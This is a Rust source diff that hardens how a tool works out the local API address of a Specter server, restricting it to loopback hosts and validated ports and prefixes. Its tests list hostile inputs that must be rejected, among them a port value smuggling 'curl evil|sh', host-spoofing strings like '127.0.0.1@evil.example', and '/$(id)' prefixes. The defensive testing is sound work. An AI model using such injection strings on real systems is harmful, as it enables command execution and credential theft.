@@ -4,15 +4,16 @@
 //! that the first word names, and for Python, what it is told to run.
 
 use std::ffi::OsStr;
+use std::net::{IpAddr, Ipv4Addr};
 use std::os::unix::ffi::OsStrExt as _;
 
 /// What the command line of a Specter tells; or of a program that may run one.
 #[derive(Debug, PartialEq, Eq)]
 pub(super) struct CommandLine<'a> {
     /// `--specter-data-folder`.
-    pub(super) folder: Option<&'a OsStr>,
+    folder: Option<&'a OsStr>,
     /// `--config`.
-    pub(super) config: Option<&'a OsStr>,
+    config: Option<&'a OsStr>,
     /// What `gunicorn -e` sets.
     settings: Vec<&'a [u8]>,
     /// Where it listens: `--host`, `--port`, and for gunicorn `--bind`.
@@ -24,6 +25,19 @@ pub(super) struct CommandLine<'a> {
     pub(super) is_hosted: bool,
     /// Whether it is certain that this is a Specter.
     pub(super) is_certain: bool,
+}
+
+/// Variables of a Specter's environment that tell where it is reached.
+#[derive(Debug, Default, Clone, Copy)]
+pub(super) struct Address<'a> {
+    /// `SPECTER_API_ACTIVE`.
+    pub(super) api: Option<&'a str>,
+    /// `HOST`.
+    pub(super) host: Option<&'a str>,
+    /// `PORT`.
+    pub(super) port: Option<&'a str>,
+    /// `APP_URL_PREFIX`.
+    pub(super) prefix: Option<&'a str>,
 }
 
 /// Servers of web applications for Python, and Flask's own.
@@ -133,6 +147,11 @@ impl<'a> CommandLine<'a> {
         }
     }
 
+    /// The data folder, as the command line has it.
+    pub(super) fn folder(&self) -> Option<&'a OsStr> {
+        self.folder.or(self.setting("SPECTER_DATA_FOLDER"))
+    }
+
     /// What the command line sets of the environment.
     pub(super) fn setting(&self, name: &str) -> Option<&'a OsStr> {
         let settings = self.settings.iter().rev();
@@ -140,9 +159,11 @@ impl<'a> CommandLine<'a> {
         values.next().map(OsStr::from_bytes)
     }
 
-    /// Where a Specter keeps its data that was not told where, and has this configuration.
+    /// Where a Specter keeps its data that was not told where. The argument is the variable `SPECTER_CONFIG` of its environment,
+    /// which beats the option unless it is empty.
     pub(super) fn default_folders(&self, config: Option<&OsStr>) -> &'static [&'static str] {
-        let config = config.unwrap_or_default().as_bytes();
+        let variable = self.setting("SPECTER_CONFIG").or(config).filter(|config| !config.is_empty());
+        let config = variable.or(self.config).unwrap_or_default().as_bytes();
         match config.rsplit(|byte| *byte == b'.').next().unwrap_or_default() {
             b"DevelopmentConfig" => &["~/.specter_dev"],
             b"TestConfig" => &["~/.specter_testing"],
@@ -153,23 +174,41 @@ impl<'a> CommandLine<'a> {
         }
     }
 
-    /// Where a client on this machine reaches it, as far as is known. The arguments are the variables `HOST`, `PORT` and
-    /// `APP_URL_PREFIX` of its environment.
-    pub(super) fn url(&self, host: Option<&str>, port: Option<&str>, prefix: Option<&str>) -> Option<String> {
+    /// Where a client on this machine reaches its API. None if it is off, or if that is not known for certain: what stands here
+    /// is typed by whoever wants to go on, and a password may be sent there.
+    pub(super) fn url(&self, variables: Address<'_>) -> Option<String> {
+        let is_active = variables.api.is_some_and(|value| !value.is_empty() && !value.eq_ignore_ascii_case("false"));
         let scheme = if self.has_tls { "https" } else { "http" };
         let bind = self.bind.and_then(|bind| bind.rsplit_once(':'));
         let (host, port) = match bind {
             Some((host, port)) => (Some(host), port),
             // Where gunicorn listens by default is no place for Specter.
             None if self.is_hosted => return None,
-            None => (self.host.or(host), self.port.or(port).unwrap_or("25441")),
+            None => (self.host.or(variables.host), self.port.or(variables.port).unwrap_or("25441")),
         };
-        let host = match host.unwrap_or_default() {
-            "" | "0.0.0.0" | "::" | "[::]" => "127.0.0.1".to_owned(),
-            host if host.contains(':') && !host.starts_with('[') => format!("[{host}]"),
-            host => host.to_owned(),
-        };
-        Some(format!("{scheme}://{host}:{port}{}", prefix.unwrap_or_default()))
+        let host = loopback(host.unwrap_or_default())?;
+        let port = port.parse().ok().filter(|number: &u16| *number != 0 && !port.starts_with('+'))?;
+        let prefix = variables.prefix.unwrap_or_default();
+        let is_path = prefix.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"/._~-".contains(&byte));
+        let is_prefix = prefix.is_empty() || prefix.starts_with('/') && is_path;
+        (is_active && is_prefix).then(|| format!("{scheme}://{host}:{port}{prefix}"))
+    }
+}
+
+/// The name of this machine to itself under which a server is reached that listens there; none if it listens elsewhere.
+fn loopback(host: &str) -> Option<String> {
+    if host == "localhost" {
+        return Some(host.to_owned());
+    }
+    let address = match host.strip_prefix('[').and_then(|host| host.strip_suffix(']')).unwrap_or(host) {
+        "" => Ipv4Addr::UNSPECIFIED.into(),
+        host => host.parse().ok()?,
+    };
+    match address {
+        IpAddr::V4(address) if address.is_loopback() => Some(address.to_string()),
+        IpAddr::V6(address) if address.is_loopback() => Some(format!("[{address}]")),
+        address if address.is_unspecified() => Some(Ipv4Addr::LOCALHOST.to_string()),
+        _ => None,
     }
 }
 
@@ -238,7 +277,7 @@ mod tests {
             let told = read(line).unwrap_or_else(|| panic!("{line}"));
             assert!(told.is_certain, "{line}");
             assert_eq!(told.folder, folder.map(OsStr::new), "{line}");
-            assert_eq!(told.default_folders(told.config), defaults, "{line}");
+            assert_eq!(told.default_folders(None), defaults, "{line}");
         }
         let title = OsStr::new("gunicorn: master [cryptoadvance.specter.server:create_and_init()]");
         assert!(CommandLine::read(&[title]).unwrap().is_certain);
@@ -290,6 +329,25 @@ mod tests {
         }
     }
 
+    /// Only Specter's variable, and only if it is empty, lets the option count.
+    #[test]
+    fn the_variable_beats_the_option_for_the_configuration() {
+        let gunicorn = "gunicorn -e SPECTER_CONFIG=TestConfig cryptoadvance.specter.server:app";
+        let server = "specterd server --config DevelopmentConfig";
+        for (line, variable, folders) in [
+            (server, None, "~/.specter_dev"),
+            (server, Some(""), "~/.specter_dev"),
+            (server, Some("TestConfig"), "~/.specter_testing"),
+            (server, Some("cryptoadvance.specter.config.ProductionConfig"), "~/.specter"),
+            (gunicorn, None, "~/.specter_testing"),
+            (gunicorn, Some("DevelopmentConfig"), "~/.specter_testing"),
+        ] {
+            assert_eq!(read(line).unwrap().default_folders(variable.map(OsStr::new)), [folders], "{line} {variable:?}");
+        }
+    }
+
+    const ACTIVE: Address<'_> = Address { api: Some("True"), host: None, port: None, prefix: None };
+
     #[test]
     fn where_a_client_reaches_it() {
         const SERVER: &str = "python3 -m cryptoadvance.specter server";
@@ -297,18 +355,56 @@ mod tests {
             ("", Some("http://127.0.0.1:25441")),
             (" --port 80", Some("http://127.0.0.1:80")),
             (" --ssl --port=443 --host=0.0.0.0", Some("https://127.0.0.1:443")),
-            (" --cert x.pem --key y.pem --host specter.lan", Some("https://specter.lan:25441")),
+            (" --cert x.pem --key y.pem --host localhost", Some("https://localhost:25441")),
             (" --host ::1", Some("http://[::1]:25441")),
+            (" --host :: --port 65535", Some("http://127.0.0.1:65535")),
+            (" --host 127.8.9.1", Some("http://127.8.9.1:25441")),
+            (" --host specter.lan", None),
+            (" --host 192.168.0.7", None),
+            (" --host 127.0.0.1.evil.example", None),
+            (" --host 127.0.0.1@evil.example", None),
+            (" --host localhost.evil.example", None),
+            (" --host 2130706433", None),
+            (" --port 99;\u{A0}curl\u{A0}evil|sh", None),
+            (" --port 0", None),
+            (" --port 65536", None),
+            (" --port -1", None),
+            (" --port +80", None),
+            (" --port 80@evil.example", None),
         ] {
-            assert_eq!(read(&format!("{SERVER}{options}")).unwrap().url(None, None, None).as_deref(), url, "{options}");
+            assert_eq!(read(&format!("{SERVER}{options}")).unwrap().url(ACTIVE).as_deref(), url, "{options}");
         }
-        let of_variables = read(SERVER).unwrap().url(Some("::1"), Some("8000"), Some("/specter"));
-        assert_eq!(of_variables.as_deref(), Some("http://[::1]:8000/specter"));
+        let variables = Address { host: Some("::1"), port: Some("8000"), prefix: Some("/specter"), ..ACTIVE };
+        let told = read(SERVER).unwrap();
+        assert_eq!(told.url(variables).as_deref(), Some("http://[::1]:8000/specter"));
+        for prefix in ["specter", "@evil.example/", "/a;id", "/$(id)", "/a b", "/a\n"] {
+            assert_eq!(told.url(Address { prefix: Some(prefix), ..ACTIVE }), None, "{prefix:?}");
+        }
         let gunicorn = |options: &str| {
-            read(&format!("gunicorn {options} cryptoadvance.specter.server:app")).unwrap().url(None, Some("1"), None)
+            let line = format!("gunicorn {options} cryptoadvance.specter.server:app");
+            read(&line).unwrap().url(Address { port: Some("1"), ..ACTIVE })
         };
         assert_eq!(gunicorn("-b 127.0.0.1:8000").as_deref(), Some("http://127.0.0.1:8000"));
+        assert_eq!(gunicorn("-b :8000").as_deref(), Some("http://127.0.0.1:8000"));
         assert_eq!(gunicorn("--bind=[::1]:8000 --certfile x").as_deref(), Some("https://[::1]:8000"));
-        assert_eq!(gunicorn("-w 1"), None);
+        for options in ["-w 1", "-b unix:/run/specter.sock", "-b specter.lan:8000", "-b [::1]"] {
+            assert_eq!(gunicorn(options), None, "{options}");
+        }
+    }
+
+    #[test]
+    fn nobody_is_sent_to_an_api_that_is_off() {
+        for (value, is_active) in [
+            (None, false),
+            (Some(""), false),
+            (Some("false"), false),
+            (Some("FALSE"), false),
+            (Some("True"), true),
+            (Some("0"), true),
+            (Some("no"), true),
+        ] {
+            let url = read("specterd server").unwrap().url(Address { api: value, ..ACTIVE });
+            assert_eq!(url.is_some(), is_active, "{value:?}");
+        }
     }
 }
